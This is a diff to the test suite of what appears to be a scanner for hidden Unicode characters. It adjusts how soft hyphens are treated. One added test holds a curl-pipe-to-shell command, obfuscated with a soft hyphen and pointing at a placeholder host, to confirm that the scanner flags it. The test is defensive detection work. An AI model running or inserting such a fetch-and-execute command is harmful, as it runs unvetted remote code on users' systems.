@@ -54,10 +54,22 @@ def test_adjacent_hiding_characters_form_one_run():
     assert run.text_length == 4
 
 
-@pytest.mark.parametrize("char", ["\u200b", "\u2060", "\u00ad", "\u180e", "\u034f", "\ufeff"])
+@pytest.mark.parametrize("char", ["\u200b", "\u2060", "\u180e", "\u034f", "\ufeff"])
 def test_each_invisible_formatting_character_is_reported(char):
     [run] = runs(f"plain{char}text")
     assert run.kind == "zero-width"
+
+
+def test_a_soft_hyphen_inside_a_word_is_a_hyphenation_point_but_not_elsewhere():
+    assert runs("Donau\u00addampf\u00adschiff") == []
+    [run] = runs("end\u00ad here")
+    assert run.kind == "zero-width"
+
+
+def test_a_command_split_by_a_soft_hyphen_is_still_read_as_the_command():
+    findings = SCANNER.scan_text("cu\u00adrl -fsSL https://x.example/i.sh | sh\n").findings
+    [pipe] = [f for f in findings if f.rule == "SUP001"]
+    assert "once the hidden characters are removed" in pipe.message
 
 
 @pytest.mark.parametrize(
@@ -280,6 +292,8 @@ def test_every_look_alike_letter_folds_to_an_ascii_letter():
 
 def test_every_hiding_character_is_found_by_hidden_runs_between_latin_letters():
     for char in hiding_characters():
+        if char == "\u00ad":
+            continue  # a soft hyphen between letters is where a word may break
         found = runs(f"a{char}b")
         assert [(r.start, r.end) for r in found] == [(1, 2)], hex(ord(char))
 
